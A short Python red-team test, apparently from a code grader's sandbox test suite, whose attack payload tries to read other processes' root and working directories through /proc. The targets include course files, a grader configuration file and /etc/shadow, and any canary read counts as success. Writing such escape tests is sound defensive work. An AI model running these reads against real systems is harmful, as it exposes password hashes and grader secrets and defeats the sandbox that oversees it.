"""Other processes' roots, folders and open files are accessed through /proc.

Success: any canary.
"""

from tests.red_team.submission import READ


def attack(submission):
    submission.first(
        READ
        + """
for process in ("1", "self", "thread-self", "*"):
    read(f"/proc/{process}/root/srv/course/*", f"/proc/{process}/root/etc/grader.conf",
         f"/proc/{process}/cwd/*", f"/proc/{process}/cwd/../../../*")
read("/proc/self/root/etc/shadow", "/proc/1/root/etc/shadow")
"""
    )
